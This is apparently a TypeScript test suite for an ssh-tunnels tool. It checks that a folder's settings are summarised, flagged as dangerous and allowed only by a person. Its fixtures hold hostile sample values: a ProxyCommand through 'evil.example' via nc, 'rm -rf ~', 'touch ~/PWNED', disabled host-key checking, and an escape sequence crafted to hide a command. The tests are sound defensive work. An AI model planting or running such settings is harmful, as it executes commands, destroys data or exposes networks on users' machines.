// What a folder's settings would do (the summary a person allows or not), and the allow store:
// the same settings stay allowed, any change of the file (or of the ssh config it names) is new.
import * as assert from 'node:assert/strict';
import * as fs from 'node:fs';
import * as os from 'node:os';
import * as path from 'node:path';
import { allowFolder, allowState, allowStore, denyFolder, ensureFolderAllowed, FolderNotAllowedError, readFolderSettings } from '../../src/cli/folderAllow';
import { formatSummary, restrictedKeys, summarizeSettings } from '../../src/cli/folderSummary';

describe('ssh-tunnels: allowing a folder\'s settings', () => {
  let dir: string;
  let home: string;
  let folder: string;
  let store: string;

  const writeSettings = (settings: Record<string, unknown>) => {
    fs.mkdirSync(path.join(folder, '.vscode'), { recursive: true });
    fs.writeFileSync(path.join(folder, '.vscode', 'settings.json'), JSON.stringify(settings));
  };

  beforeEach(() => {
    dir = fs.realpathSync(fs.mkdtempSync(path.join(os.tmpdir(), 'ssh-tunnels-allow-')));
    home = path.join(dir, 'home');
    folder = path.join(dir, 'repo');
    fs.mkdirSync(home);
    fs.mkdirSync(folder);
    store = allowStore({}, home);
  });
  afterEach(() => fs.rmSync(dir, { recursive: true, force: true }));

  it('allows are kept per platform: %LOCALAPPDATA% on Windows, $XDG_DATA_HOME or ~/.local/share elsewhere', () => {
    assert.equal(allowStore({ LOCALAPPDATA: 'C:\\Users\\me\\AppData\\Local' }, 'C:\\Users\\me', 'win32'), 'C:\\Users\\me\\AppData\\Local\\ssh-tunnels\\allow');
    assert.equal(allowStore({}, 'C:\\Users\\me', 'win32'), 'C:\\Users\\me\\AppData\\Local\\ssh-tunnels\\allow');
    assert.equal(allowStore({ XDG_DATA_HOME: '/data' }, '/home/me', 'linux'), '/data/ssh-tunnels/allow');
    assert.equal(allowStore({}, '/Users/me', 'darwin'), '/Users/me/.local/share/ssh-tunnels/allow');
  });

  it('the summary names the commands, the exposures and the wide listens first, then the servers and loopback listens', () => {
    fs.writeFileSync(path.join(folder, 'ssh_config'), 'Host jump\n  HostName 10.0.0.1\n  ProxyCommand nc -x evil.example %h %p\nHost other\n  ProxyCommand none\n');
    const settings = {
      'sshTunnels.sshConfigFile': 'ssh_config',
      'sshTunnels.servers': [
        { host: 'db', hostName: '10.0.0.5', user: 'me', port: 2222 },
        { host: 'evil', hostName: '127.0.0.1', proxyCommand: 'touch ~/PWNED', strictHostKeyChecking: 'no' },
        // Left out by the settings check (a bad port), so its command never runs: not listed.
        { host: 'broken', port: 'x', proxyCommand: 'rm -rf ~' },
      ],
      'sshTunnels.tunnels': [
        { name: 'pg', server: 'db', localPort: 5432, remoteHost: 'localhost', remotePort: 5432 },
        { name: 'dev', server: 'evil', type: 'remote', localPort: 3000, remotePort: 9000 },
        { server: 'evil', type: 'remote', remoteHost: '0.0.0.0', remotePort: 1080, socks: true },
        { name: 'web', server: 'db', localHost: '0.0.0.0', localPort: 8080, remoteHost: 'localhost', remotePort: 80 },
        { name: 'socks', server: 'db', type: 'dynamic', localPort: 1080 },
      ],
      'sshTunnels.reconnect.initialDelay': 2,
    };
    const items = summarizeSettings(settings, folder, home);
    assert.deepEqual(items, [
      { danger: true, text: `reads its SSH hosts from ${folder}/ssh_config instead of your ~/.ssh/config` },
      { danger: true, text: `runs the command: nc -x evil.example %h %p  (ProxyCommand at ${folder}/ssh_config:3)` },
      { danger: true, text: 'runs the command: touch ~/PWNED  (proxyCommand of server "evil")' },
      { danger: true, text: 'accepts any host key from server "evil" (strictHostKeyChecking "no")' },
      { danger: true, text: 'exposes 127.0.0.1:3000 of this machine on server "evil", which listens on 127.0.0.1:9000 (tunnel "dev")' },
      { danger: true, text: 'exposes a SOCKS proxy into this machine\'s network on server "evil", which listens on 0.0.0.0:1080, open to its network' },
      { danger: true, text: 'listens on 0.0.0.0:8080, open to other machines, forwards to localhost:80 through server "db" (tunnel "web")' },
      { danger: false, text: 'connects to server "db" at me@10.0.0.5:2222' },
      { danger: false, text: 'connects to server "evil" at 127.0.0.1' },
      { danger: false, text: 'listens on 127.0.0.1:5432: forwards to localhost:5432 through server "db" (tunnel "pg")' },
      { danger: false, text: 'listens on 127.0.0.1:1080: a SOCKS proxy through server "db" (tunnel "socks")' },
    ]);
    assert.match(formatSummary(items), /^ {2}! reads its SSH hosts[\s\S]*\n {4}connects to server "db"/);
    // What the file says reaches the terminal as text: an escape sequence cannot erase or hide the line of a command.
    const hidden = summarizeSettings({ 'sshTunnels.servers': [{ host: 'x', proxyCommand: 'touch ~/PWNED\x1b[2K\r\u202eharmless' }] }, folder, home);
    assert.equal(formatSummary(hidden).split('\n')[0], '  ! runs the command: touch ~/PWNED\\x1b[2K\\x0d\\u202eharmless  (proxyCommand of server "x")');
    assert.deepEqual(restrictedKeys(settings), ['sshTunnels.servers', 'sshTunnels.tunnels', 'sshTunnels.sshConfigFile']);
    assert.deepEqual(restrictedKeys({ 'sshTunnels.reconnect.initialDelay': 2 }), [], 'settings VS Code does not restrict need no allow');
    // The person's own ~/.ssh/config named in the settings is not "elsewhere".
    assert.deepEqual(summarizeSettings({ 'sshTunnels.sshConfigFile': '~/.ssh/config' }, folder, home), [{ danger: false, text: `reads its SSH hosts from ${home}/.ssh/config` }]);
  });

  it('remembers an allow against the file\'s bytes: a change of the file or of its ssh config is asked again; deny forgets', () => {
    assert.equal(allowState(readFolderSettings(folder, home), store), 'not-needed', 'no settings file: nothing to allow');
    writeSettings({ 'sshTunnels.reconnect.maxDelay': 5 });
    assert.equal(allowState(readFolderSettings(folder, home), store), 'not-needed', 'no restricted key: nothing to allow');
    writeSettings({ 'sshTunnels.sshConfigFile': './ssh_config', 'sshTunnels.tunnels': [] });
    let s = readFolderSettings(folder, home);
    assert.equal(allowState(s, store), 'new');
    const entry = allowFolder(s, store);
    assert.equal(fs.statSync(store).mode & 0o777, 0o700);
    assert.equal(fs.statSync(entry).mode & 0o777, 0o600);
    assert.equal(fs.readFileSync(entry, 'utf8'), `${folder}\n`);
    assert.equal(allowState(readFolderSettings(folder, home), store), 'allowed');

    // The ssh config it names did not exist when allowed: creating it is a change.
    fs.writeFileSync(path.join(folder, 'ssh_config'), 'Host x\n  ProxyCommand touch ~/PWNED\n');
    s = readFolderSettings(folder, home);
    assert.equal(allowState(s, store), 'changed');
    allowFolder(s, store);
    assert.equal(fs.readdirSync(store).length, 1, 'the allow of the earlier version is replaced');
    fs.appendFileSync(path.join(folder, '.vscode', 'settings.json'), ' ');
    assert.equal(allowState(readFolderSettings(folder, home), store), 'changed', 'one byte more in the settings file');

    // A symbolic link to the folder is the same folder.
    fs.symlinkSync(folder, path.join(dir, 'link'));
    allowFolder(readFolderSettings(path.join(dir, 'link'), home), store);
    assert.equal(allowState(readFolderSettings(folder, home), store), 'allowed');
    assert.equal(denyFolder(folder, store), 1);
    assert.equal(allowState(readFolderSettings(folder, home), store), 'new');
    assert.equal(denyFolder(folder, store), 0);
  });

  it('without a terminal the refusal shows what the settings do, why nothing was asked, and the command that allows them', async () => {
    writeSettings({ 'sshTunnels.servers': [{ host: 'evil', hostName: '127.0.0.1', proxyCommand: 'touch ~/PWNED' }] });
    const s = readFolderSettings(folder, home);
    await assert.rejects(ensureFolderAllowed(s, {}, store), (err: Error) => {
      assert.ok(err instanceof FolderNotAllowedError);
      assert.match(err.message, /are not allowed on this machine yet\. What they do:\n {2}! runs the command: touch ~\/PWNED/);
      assert.match(err.message, /Refused, nothing was run: there is no terminal to ask \(stdin is not a terminal\)\./);
      assert.ok(err.message.endsWith(`allow them with: ssh-tunnels allow ${folder}`), err.message);
      return true;
    });
    assert.equal(fs.existsSync(store), false, 'a refusal records nothing');
  });
});
